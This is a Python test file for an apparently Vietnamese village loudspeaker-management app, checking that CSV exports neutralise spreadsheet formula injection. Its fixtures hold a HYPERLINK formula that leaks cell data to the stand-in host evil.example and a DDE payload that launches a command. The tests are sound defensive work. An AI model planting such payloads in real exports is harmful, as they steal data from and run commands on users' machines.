"""CSV export cannot carry a formula (issue 13, Low): a village or loudspeaker named "=HYPERLINK(…)" is written
as text, per OWASP (a leading quote for cells starting with = + - @, tab or CR)."""
from __future__ import annotations

import csv
import io

from loa.csv_safe import safe_cell
from tests.api.web.web_rig import login

EVIL_DEVICE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_cells_a_spreadsheet_would_run_are_quoted():
    for bad in ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    for fine in ("Ún Tà", "95.8", "-3", "+1.5", "", 12, None, "a=b"):
        assert safe_cell(fine) == fine


def test_monthly_csv_neutralises_names(client, app, world):
    from loa.accounts.auth import CLI
    from loa.db import session_scope
    from loa.org import service as org

    now = app.state.clock()
    with session_scope(app.state.engine) as s:
        village = org.create_village(s, CLI, world.a, "@Thôn Giả", now)
        org.create_device(s, CLI, world.a, EVIL_DEVICE, now, village.id)
        village_id = village.id
    login(client, "cadre")
    r = client.get(f"/app/c/{world.a}/reports.csv", params={"village": village_id, "month": "2026-03"})
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert rows and all(row["Thôn"] == "'@Thôn Giả" for row in rows)
    assert [row["Mục"] for row in rows if row["Chỉ số"] == "Thời gian hoạt động (%)"] == ["'" + EVIL_DEVICE]
    assert not any(v.startswith(("=", "+", "@", "-")) for row in rows for v in row.values() if v)
